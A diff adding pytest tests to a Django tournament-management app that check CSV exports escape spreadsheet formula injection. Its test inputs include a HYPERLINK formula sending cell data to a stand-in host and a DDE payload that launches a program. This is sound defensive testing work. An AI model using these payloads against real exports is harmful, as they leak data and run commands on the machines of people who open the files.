@@ -175,3 +175,64 @@ def test_every_relation_in_the_api_serializers_is_a_whole_number_id():
                 checked += 1
                 assert isinstance(relation, IdField), (cls, name, type(relation))
     assert checked > 20
+
+
+# --- 3. no formula in a CSV --------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _csv(response) -> list[list[str]]:
+    import csv
+    import io
+
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(b"".join(response).decode() if response.streaming else response.content.decode())))
+
+
+@pytest.fixture
+def started(make_tournament, make_person, cashier_actor, actor):
+    from tournaments.services import cashier, lifecycle
+
+    t = make_tournament()
+    for first in ("Anna", "Bruno"):
+        cashier.register(t, make_person(first, "Bianchi"), method="CASH", actor=cashier_actor)
+    lifecycle.start(t, actor=actor, override_minimum=True, prestart_report_sent=True)
+    return t
+
+
+def test_the_rulings_csv_carries_no_formula_from_what_the_floor_typed(api, started, floor_user, director):
+    body = {"asked_by": HYPERLINK, "question": "+1+1", "decision": "@SUM(1+1)", "hand": "-2+3+cmd|' /C calc'!A0", "table_number": 1}
+    assert api(floor_user).post(f"/api/v1/tournaments/{started.pk}/rulings/", body, format="json").status_code == 201
+    for url in (f"/api/v1/tournaments/{started.pk}/payouts/reports/rulings/?format_type=csv",
+                f"/tournaments/{started.pk}/payouts/reports/rulings.csv"):
+        client = Client()
+        client.force_login(director)
+        rows = _csv(client.get(url) if url.endswith(".csv") else api(director).get(url))
+        ruling = next(r for r in rows if len(r) > 6 and r[0].isdigit())
+        assert ruling[3:7] == ["'-2+3+cmd|' /C calc'!A0", "'" + HYPERLINK, "'+1+1", "'@SUM(1+1)"], ruling
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row if c), rows
+
+
+def test_the_prestart_csv_neutralises_player_names_and_documents(api, make_tournament, make_person, cashier_user, director):
+    t = make_tournament()
+    evil = make_person("=1+2", "@cmd", document_id="\t=SUM(A1)")
+    plain = make_person("-Ugo", "Rossi", document_id="-12.50")  # a name with a dash, a document that is a number
+    for p in (evil, plain):
+        assert api(cashier_user).post("/api/v1/cashier/register/", {"tournament": t.pk, "person": p.pk, "method": "CASH"},
+                                      format="json").status_code == 201
+    rows = _csv(api(director).get(f"/api/v1/tournaments/{t.pk}/payouts/reports/prestart/?format_type=csv"))
+    players = {r[3]: r for r in rows if len(r) > 4 and r[0].isdigit()}
+    assert set(players) == {"'" + evil.full_name, "'" + plain.full_name}, players
+    assert players["'" + evil.full_name][4] == "'\t=SUM(A1)"
+    assert players["'" + plain.full_name][4] == "-12.50"  # a plain number runs nothing: it stays a number
+    assert players["'" + evil.full_name][6:9] == ["100.00", "10.00", "110.00"]  # the amounts are numbers, as written
+
+
+@pytest.mark.parametrize("text, written", [("=1+1", "'=1+1"), ("+39 333", "'+39 333"), ("-1+1", "'-1+1"), ("@A1", "'@A1"),
+                                           ("\tx", "'\tx"), ("\rx", "'\rx"), ("-12.50", "-12.50"), ("-3", "-3"), ("12", "12"),
+                                           ("Anna", "Anna"), ("", ""), (None, ""), ("-", "'-"), ("-1.", "'-1.")])
+def test_a_csv_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(text, written):
+    from tdmanager.csvsafe import cell
+
+    assert cell(text) == written
